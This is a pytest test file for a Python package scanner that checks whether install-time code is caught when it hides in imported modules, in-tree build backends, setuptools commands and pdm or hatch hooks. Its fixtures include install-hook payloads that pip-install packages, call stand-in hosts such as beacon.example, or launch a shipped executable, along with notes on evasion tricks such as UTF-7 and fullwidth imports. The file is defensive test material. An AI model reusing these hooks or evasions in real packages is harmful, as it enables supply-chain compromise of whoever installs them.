"""An install script's own modules are install-time code (caplet._scan._installer_imports).

The attack is tune sample cn4-pip-list-pieces rewritten by
benchmarks/mutate_recall.py's ``sibling-*`` rewrites: the installer's body moved
into a module beside setup.py that setup.py imports, which escaped before
(issue 16). The near misses: the same module nobody imports at install time,
and a module of another folder.
"""

from __future__ import annotations

import ast
import tarfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from caplet._scan._installer_imports import (
    MAX_INSTALLER_MODULES,
    build_backends,
    build_hooks,
    command_modules,
    installer_modules,
)
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_tree
from tests._scan.prefilterkit import tree_both_ways
from tests._scan.scankit import SETUP, package_danger, write_tree

_PAYLOAD = """\
import subprocess
import sys

PIP = [sys.executable, "-m", "pip"]


def _extras():
    args = PIP + ["install"] + ["--quiet"]
    args.append("colour-extras-native")
    subprocess.call(args)


_extras()
"""


@pytest.mark.parametrize(
    ("importer", "helper"),
    [
        ("from _helper import *", "_helper.py"),
        ("import _helper", "_helper.py"),
        ("from colour_build import *", "colour_build/__init__.py"),
        ("import colour_build.steps", "colour_build/steps.py"),
        ("from colour_build import steps", "colour_build/steps.py"),
        ("__import__('_helper')", "_helper.py"),
        # imported inside a cmdclass command: runs at install time too
        (
            "from setuptools.command.install import install\n"
            "class I(install):\n"
            "    def run(self):\n"
            "        import _helper\n"
            "        install.run(self)\n",
            "_helper.py",
        ),
    ],
)
def test_pip_run_from_a_module_setup_py_imports_is_the_installers(
    tmp_path: Path, importer: str, helper: str
) -> None:
    files = {"setup.py": SETUP.format(importer=importer), helper: _PAYLOAD}
    if helper.startswith("colour_build/") and helper != "colour_build/__init__.py":
        files["colour_build/__init__.py"] = ""
    assert ("CPL-THR-019", helper) in package_danger(write_tree(tmp_path, files, dedent=True))


def test_a_module_imported_through_another_is_followed(tmp_path: Path) -> None:
    files = {
        "setup.py": SETUP.format(importer="import _a"),
        "_a.py": "import _b\n",
        "_b.py": _PAYLOAD,
    }
    assert ("CPL-THR-019", "_b.py") in package_danger(write_tree(tmp_path, files, dedent=True))


@pytest.mark.parametrize(
    "files",
    [
        # the same module, which setup.py does not import: not run by pip
        {"setup.py": SETUP.format(importer=""), "_helper.py": _PAYLOAD},
        # a module of that name in another folder: not the one setup.py imports
        {"setup.py": SETUP.format(importer="import _helper"), "tools/_helper.py": _PAYLOAD},
        # a setup.py under examples/ is not the installer, nor what it imports
        {
            "pyproject.toml": "",
            "examples/demo/setup.py": SETUP.format(importer="import _helper"),
            "examples/demo/_helper.py": _PAYLOAD,
        },
    ],
)
def test_modules_pip_does_not_run_stay_ordinary(tmp_path: Path, files: dict[str, str]) -> None:
    assert package_danger(write_tree(tmp_path, files, dedent=True)) == set()


def test_the_modules_followed_are_bounded() -> None:
    present = {f"m{i}.py" for i in range(100)}
    texts = {"setup.py": "\n".join(f"import m{i}" for i in range(100))}
    found = installer_modules(["setup.py"], present, lambda r: texts.get(r, ""))
    assert len(found) == MAX_INSTALLER_MODULES


#: An import in every kind of block a statement can sit in, and the dynamic imports by
#: a literal name (one spelled in fullwidth letters, which Python folds to ASCII).
_EVERY_BLOCK = """
import m0
def f():
    import m1
class C:
    from m2 import x
if a:
    import m3
else:
    import m4
for i in a:
    import m5
else:
    import m6
while a:
    import m7
with a:
    import m8
try:
    import m9
except E:
    import m10
else:
    import m11
finally:
    import m12
try:
    pass
except* E:
    import m13
match a:
    case 1:
        import m14
async def g():
    async with a:
        import m15
    async for i in a:
        import m16
x = __import__("m17")
y = importlib.import_module("m18")
"""


@pytest.mark.parametrize("fold", [False, True], ids=["ascii", "fullwidth-dynamic"])
def test_every_import_is_found_in_every_block(fold: bool) -> None:
    text = _EVERY_BLOCK
    if fold:  # U+FF49 is "i" to Python (NFKC), not to a substring search
        text = text.replace("importlib.import_module", "importlib.\uff49mport_module")
        text = text.replace("__import__", "__\uff49mport__")
    present = {f"m{i}.py" for i in range(19)} | {"m2/x.py"}
    found = installer_modules(["setup.py"], present, lambda r: text if r == "setup.py" else "")
    assert found == present


def test_a_script_that_names_no_dynamic_import_is_not_walked_expression_by_expression(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """attack36's 0.9 MB setup.py of calls spent 8.6 of its 12 s in this walk."""
    walked: list[ast.AST] = []

    def walk(tree: ast.AST) -> Iterator[ast.AST]:
        walked.append(tree)
        return iter(())

    monkeypatch.setattr(ast, "walk", walk)
    text = "import m0\n" + "print(len('x'))\n" * 1000
    assert installer_modules(["setup.py"], {"m0.py"}, lambda r: text) == {"m0.py"}
    assert walked == []
    text += "__import__('m1')\n"
    installer_modules(["setup.py"], {"m0.py"}, lambda r: text if r == "setup.py" else "")
    assert len(walked) == 1


def test_an_unparsable_or_unreadable_script_imports_nothing() -> None:
    present = {"_helper.py"}
    assert installer_modules(["setup.py"], present, lambda r: "import _helper(\n") == set()
    assert installer_modules(["setup.py"], present, lambda r: None) == set()


def test_a_modules_network_chains_stay_a_modules(tmp_path: Path) -> None:
    # lxml's buildlibxml.py, nodeenv.py: setup.py imports a helper that can download
    # sources when asked; the network chain of setup.py itself is not the helper's
    helper = (
        "import urllib.request\n\n\ndef fetch(url):\n"
        "    return urllib.request.urlopen(url).read()\n"
    )
    files = {
        "setup.py": SETUP.format(importer="from buildlib import fetch"),
        "buildlib.py": helper,
    }
    assert package_danger(write_tree(tmp_path, files, dedent=True)) == set()


# -- an in-tree PEP 517 build backend (recall5, issue 16 class 1's pip family) -----------


def _pyproject(backend: str, paths: str) -> str:
    return f'[build-system]\nrequires = ["setuptools"]\nbuild-backend = "{backend}"\n{paths}\n'


@pytest.mark.parametrize(
    ("pyproject", "module"),
    [
        (_pyproject("backend", 'backend-path = ["_build"]'), "_build/backend.py"),
        (_pyproject("backend:api", 'backend-path = ["."]'), "backend.py"),
        (_pyproject("tools.backend", 'backend-path = ["./"]'), "tools/backend.py"),
    ],
)
def test_pip_run_from_an_in_tree_build_backend_is_the_installers(
    tmp_path: Path, pyproject: str, module: str
) -> None:
    backend = "from setuptools.build_meta import *  # noqa\n" + _PAYLOAD
    root = write_tree(tmp_path, {"pyproject.toml": pyproject, module: backend}, dedent=True)
    assert ("CPL-THR-019", module) in package_danger(root)


@pytest.mark.parametrize(
    "pyproject",
    [
        _pyproject("setuptools.build_meta", ""),  # an installed backend: not the tree's
        _pyproject("backend", ""),  # no backend-path: pip imports an installed module
        _pyproject("backend", 'backend-path = ["../elsewhere"]'),  # outside the tree
        "[build-system\nbroken",  # not TOML: pip refuses it too
    ],
)
def test_modules_that_are_not_an_in_tree_backend_stay_ordinary(
    tmp_path: Path, pyproject: str
) -> None:
    root = write_tree(tmp_path, {"pyproject.toml": pyproject, "backend.py": _PAYLOAD}, dedent=True)
    assert package_danger(root) == set()


def test_the_backend_module_is_found_with_its_packages() -> None:
    present = {"pkg-1.0/pyproject.toml", "pkg-1.0/b/__init__.py", "pkg-1.0/b/api.py"}
    texts = {"pkg-1.0/pyproject.toml": _pyproject("b.api", 'backend-path = ["."]')}
    assert build_backends(present, texts.get) == {"pkg-1.0/b/__init__.py", "pkg-1.0/b/api.py"}


# -- an sdist judged as its unpacked tree (attack8) -------------------------------------


def _sdist(root: Path, target: Path) -> Path:
    """``root``'s files as an sdist (``pkg-1.0/...`` in a gzipped tar), members in the
    order that hides most: the install script last."""
    files = sorted((p for p in root.rglob("*") if p.is_file()), key=lambda p: p.name == "setup.py")
    with tarfile.open(target, "w:gz") as archive:
        for path in files:
            archive.add(path, arcname=f"pkg-1.0/{path.relative_to(root).as_posix()}")
    return target


_BACKEND_NETWORK = """\
import urllib.request

from setuptools.build_meta import *  # noqa

urllib.request.urlopen("https://files.example.com/stage2").read()
"""


@pytest.mark.parametrize(
    ("files", "expected"),
    [
        (
            {"setup.py": SETUP.format(importer="import _helper"), "_helper.py": _PAYLOAD},
            {("CPL-THR-019", "_helper.py")},
        ),
        (
            {
                "setup.py": SETUP.format(importer="from colour_build import steps"),
                "colour_build/__init__.py": "",
                "colour_build/steps.py": _PAYLOAD,
            },
            {("CPL-THR-019", "colour_build/steps.py")},
        ),
        (
            {
                "pyproject.toml": _pyproject("backend", 'backend-path = ["_build"]'),
                "_build/backend.py": "from setuptools.build_meta import *  # noqa\n" + _PAYLOAD,
            },
            {("CPL-THR-019", "_build/backend.py")},
        ),
        # network at build time in an in-tree backend: pip runs it as it runs setup.py
        (
            {
                "pyproject.toml": _pyproject("backend", 'backend-path = ["."]'),
                "backend.py": _BACKEND_NETWORK,
            },
            {("CPL-THR-011", "backend.py")},
        ),
        # the near misses stay ordinary in an sdist too
        ({"setup.py": SETUP.format(importer=""), "_helper.py": _PAYLOAD}, set()),
        (
            {"setup.py": SETUP.format(importer="import _helper"), "tools/_helper.py": _PAYLOAD},
            set(),
        ),
        (
            {
                "setup.py": SETUP.format(importer="from buildlib import fetch"),
                "buildlib.py": "import urllib.request\n\n\ndef fetch(url):\n"
                "    return urllib.request.urlopen(url).read()\n",
            },
            set(),
        ),
    ],
)
def test_an_sdist_is_judged_as_its_unpacked_tree(
    tmp_path: Path, files: dict[str, str], expected: set[tuple[str, str]]
) -> None:
    # package mode streamed an sdist's members and decided install scripts per file (a
    # setup.py), so what setup.py or a build backend imports was an ordinary module there
    # and an install script on disk: pip run from it was found only unpacked (attack8)
    root = write_tree(tmp_path / "tree", files, dedent=True)
    assert package_danger(root) == expected
    assert package_danger(_sdist(root, tmp_path / "pkg-1.0.tar.gz")) == expected


def test_an_install_scripts_imports_are_read_as_the_import_decodes_it(tmp_path: Path) -> None:
    # a coding: utf-7 setup.py spells its import in UTF-7: read as UTF-8 it imported
    # nothing, so the helper's pip was an ordinary module's, on disk and in an sdist
    setup = (
        "# -*- coding: utf-7 -*-\nfrom setuptools import setup\n+AGk-mport _helper\n"
        "setup(name='colour')\n"
    )
    root = write_tree(tmp_path / "tree", {"setup.py": setup, "_helper.py": _PAYLOAD}, dedent=True)
    expected = {("CPL-THR-019", "_helper.py")}
    assert package_danger(root) == expected
    assert package_danger(_sdist(root, tmp_path / "pkg-1.0.tar.gz")) == expected


_COMMANDS = (
    """\
from setuptools.command.build_py import build_py

"""
    + _PAYLOAD
    + """

class BuildPy(build_py):
    pass
"""
)


@pytest.mark.parametrize(
    "config",
    [
        {
            "pyproject.toml": '[build-system]\nrequires = ["setuptools>=64"]\n'
            'build-backend = "setuptools.build_meta"\n[project]\nname = "colour"\n'
            'version = "1.0"\n[tool.setuptools.cmdclass]\nbuild_py = "_cmds.BuildPy"\n'
        },
        {
            "setup.cfg": "[metadata]\nname = colour\n[options]\ncmdclass =\n"
            "    build_py = _cmds.BuildPy\n",
            "setup.py": SETUP.format(importer=""),
        },
    ],
)
def test_a_setuptools_command_a_configuration_names_is_the_installers(
    tmp_path: Path, config: dict[str, str]
) -> None:
    # setuptools imports it to build, though no setup.py imports it (attack8)
    root = write_tree(tmp_path / "tree", {**config, "_cmds.py": _COMMANDS}, dedent=True)
    expected = {("CPL-THR-019", "_cmds.py")}
    assert package_danger(root) == expected
    assert package_danger(_sdist(root, tmp_path / "pkg-1.0.tar.gz")) == expected


def test_a_command_module_outside_the_tree_or_a_broken_config_names_nothing() -> None:
    present = {"pyproject.toml", "setup.cfg", "_cmds.py"}
    texts = {"pyproject.toml": "[tool.setuptools.cmdclass\n", "setup.cfg": "[options\n"}
    assert command_modules(present, texts.get) == set()
    texts = {"setup.cfg": "[options]\ncmdclass =\n    build_py = elsewhere.BuildPy\n"}
    assert command_modules(present, texts.get) == set()


@pytest.mark.parametrize("mode", ["package", "plugin"])
def test_a_setup_py_nested_past_the_parsers_depth_ends_the_scan_with_findings(
    tmp_path: Path, mode: str
) -> None:
    # attack11: _imported's ast.parse raised RecursionError out of the scan (65 kB)
    (tmp_path / "setup.py").write_text("x = 'a'" + ".__add__('b')" * 5000 + "\n")
    report = scan_tree(tmp_path, mode=ScanMode.PACKAGE if mode == "package" else ScanMode.PLUGIN)
    assert report.findings


def test_a_setup_py_whose_parse_warns_still_has_its_imports_followed(tmp_path: Path) -> None:
    # attack11: "1if" warns while parsing; under filterwarnings=error (or any host's
    # -W error) the warning became a SyntaxError and the imported helper was not followed
    files = {
        "setup.py": SETUP.format(importer="import _helper\nx = 1if 1 else 2"),
        "_helper.py": _PAYLOAD,
    }
    assert ("CPL-THR-019", "_helper.py") in package_danger(write_tree(tmp_path, files))


#: recall16 (blind15's b15-ls-pdm-build-hook, -hatch-build-hook): a build backend's hook
#: file runs while pip builds, as a setuptools command does: a pip install, a shipped
#: program started and network at its module level in it are the installer's. All were a
#: module's on main, clean.
_PDM_HOOK = """\
import os
import subprocess


def pdm_build_initialize(context):
    subprocess.Popen([os.path.join(os.path.dirname(__file__), "tools", "helper.exe")])
"""
_HOOK_MODULE_NETWORK = """\
import urllib.request

urllib.request.urlopen("https://beacon.example/b").read()


def pdm_build_initialize(context):
    pass
"""
_HATCH_PIP = """\
import subprocess
import sys

from hatchling.builders.hooks.plugin.interface import BuildHookInterface


class CustomBuildHook(BuildHookInterface):
    def initialize(self, version, build_data):
        subprocess.call([sys.executable, "-m", "pip", "install", "colour-extras-native"])
"""
_PDM = '[build-system]\nrequires = ["pdm-backend"]\nbuild-backend = "pdm.backend"\n'
_HATCH = '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n'


@pytest.mark.parametrize(
    ("files", "expected"),
    [
        (
            {"pyproject.toml": _PDM, "pdm_build.py": _PDM_HOOK},
            ("CPL-THR-018", "pdm_build.py"),
        ),
        (
            {
                "pyproject.toml": _PDM + '[tool.pdm.build]\ncustom-hook = "build/hook.py"\n',
                "build/hook.py": _HOOK_MODULE_NETWORK,
            },
            ("CPL-THR-011", "build/hook.py"),
        ),
        (
            {
                "pyproject.toml": _HATCH + "[tool.hatch.build.hooks.custom]\n",
                "hatch_build.py": _HATCH_PIP,
            },
            ("CPL-THR-019", "hatch_build.py"),
        ),
        (
            {
                "pyproject.toml": _HATCH
                + '[tool.hatch.build.targets.wheel.hooks.custom]\npath = "tools/hooks.py"\n',
                "tools/hooks.py": _HATCH_PIP,
            },
            ("CPL-THR-019", "tools/hooks.py"),
        ),
        (
            {
                "pyproject.toml": _HATCH + "[tool.hatch.metadata.hooks.custom]\n",
                "hatch_build.py": _HATCH_PIP,
            },
            ("CPL-THR-019", "hatch_build.py"),
        ),
    ],
)
def test_a_build_backends_hook_file_is_the_installers(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    files: dict[str, str],
    expected: tuple[str, str],
) -> None:
    root = write_tree(tmp_path / "tree", files)
    assert expected in package_danger(root)
    assert expected in package_danger(_sdist(root, tmp_path / "pkg-1.0.tar.gz"))
    filtered, whole = tree_both_ways(root, monkeypatch)
    assert filtered == whole


@pytest.mark.parametrize(
    "files",
    [
        # pdm_build.py under another backend: nothing calls its hooks
        {"pyproject.toml": _HATCH, "pdm_build.py": _PDM_HOOK},
        # hatch_build.py that no hooks table names: hatchling never loads it
        {"pyproject.toml": _HATCH, "hatch_build.py": _HATCH_PIP},
        # a hook outside the tree is no file of it
        {
            "pyproject.toml": _HATCH + '[tool.hatch.build.hooks.custom]\npath = "../h.py"\n',
            "hatch_build.py": _HATCH_PIP,
        },
    ],
)
def test_a_hook_file_no_backend_calls_stays_a_module(tmp_path: Path, files: dict[str, str]) -> None:
    assert package_danger(write_tree(tmp_path, files)) == set()


@pytest.mark.parametrize(
    "hook",
    [
        # a front end built with npm, as jupyterlab extensions build theirs
        "import subprocess\n"
        "from hatchling.builders.hooks.plugin.interface import BuildHookInterface\n\n"
        "class CustomBuildHook(BuildHookInterface):\n"
        "    def initialize(self, version, build_data):\n"
        "        subprocess.run(['npm', 'ci'], check=True, cwd='js')\n"
        "        subprocess.run(['npm', 'run', 'build'], check=True, cwd='js')\n",
        # nbconvert's hook: stylesheets fetched into the package's tree when they are missing
        "import os, urllib.request\n"
        "from hatchling.builders.hooks.plugin.interface import BuildHookInterface\n\n"
        "def _fetch(url, dest):\n"
        "    if not os.path.exists(dest):\n"
        "        open(dest, 'wb').write(urllib.request.urlopen(url).read())\n\n"
        "class CustomHook(BuildHookInterface):\n"
        "    def initialize(self, version, build_data):\n"
        "        _fetch('https://unpkg.com/@jupyterlab/nbconvert-css/style/index.css', 'x.css')\n",
        # a version file written from git's description
        "import subprocess\n\ndef pdm_build_initialize(context):\n"
        "    out = subprocess.check_output(['git', 'describe', '--tags'], text=True)\n"
        "    open('src/colour/_version.py', 'w').write(f'__version__ = {out.strip()!r}\\n')\n",
    ],
)
def test_a_hook_that_builds_the_package_is_clean(tmp_path: Path, hook: str) -> None:
    config = _PDM if "pdm_build" in hook else _HATCH + "[tool.hatch.build.hooks.custom]\n"
    name = "pdm_build.py" if "pdm_build" in hook else "hatch_build.py"
    assert package_danger(write_tree(tmp_path, {"pyproject.toml": config, name: hook})) == set()


def test_a_broken_pyproject_names_no_hook() -> None:
    present = {"pyproject.toml", "pdm_build.py", "hatch_build.py"}
    assert build_hooks(present, {"pyproject.toml": _PDM + "[tool\n"}.get) == set()
    assert (
        build_hooks(present, {"pyproject.toml": "[tool.hatch.build.hooks]\ncustom = 1\n"}.get)
        == set()
    )
